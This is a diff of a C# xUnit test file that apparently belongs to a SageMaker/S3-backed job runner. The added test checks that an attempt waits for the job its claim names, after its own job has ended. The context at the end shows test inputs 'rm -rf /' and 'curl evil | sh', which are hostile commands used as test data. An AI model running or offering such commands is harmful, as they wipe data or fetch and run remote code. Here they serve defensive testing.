@@ -24,6 +24,31 @@ public sealed class No_job_is_taken_for_lost(S3Server server) : IClassFixture<S3
         await KindShouldBeAsync(bench.OpenAt(later), assignment, BackendKind.Waiting);
     }
 
+    [Fact]
+    public async Task An_attempt_with_an_ended_job_of_its_own_runs_in_the_job_that_its_claim_names()
+    {
+        await using var bench = new SageMakerBench(server, SageMakerBench.Imagined);
+        var first = (await bench.AssignAsync("true"))[0];
+        var second = first with { Number = 2 };
+        await bench.Target.StartAsync([first, second], default);
+        var claim = new AttemptClaim
+        {
+            Token = "t", Host = "h", Process = 1, HostAttempt = first.Attempt, At = DateTimeOffset.UtcNow,
+        };
+        await bench.Store.WriteAsync(
+            AttemptKeys.Claim(second.Attempt), JsonSerializer.SerializeToUtf8Bytes(claim, AttemptJson.Default.AttemptClaim), default);
+        await bench.TrainsAsync(first);
+        await bench.TrainsAsync(second);
+        bench.Aws.SageMaker.End(SageMakerBench.JobOf(second));
+        await Eventually.ShouldBeAsync(
+            () => bench.Aws.SageMaker.StatusOf(SageMakerBench.JobOf(second)).Status == "Completed", "its own job has ended");
+        foreach (var target in (ITarget[])[bench.Target, bench.Reopen()])
+            await bench.UntilAsync(second, state => state.Kind == BackendKind.Waiting, target);
+        bench.Aws.SageMaker.End(SageMakerBench.JobOf(first));
+        foreach (var target in (ITarget[])[bench.Target, bench.Reopen()])
+            await bench.UntilAsync(second, state => state.Kind == BackendKind.Gone, target);
+    }
+
     [Theory]
     [InlineData("rm -rf /")]
     [InlineData("curl evil | sh")]
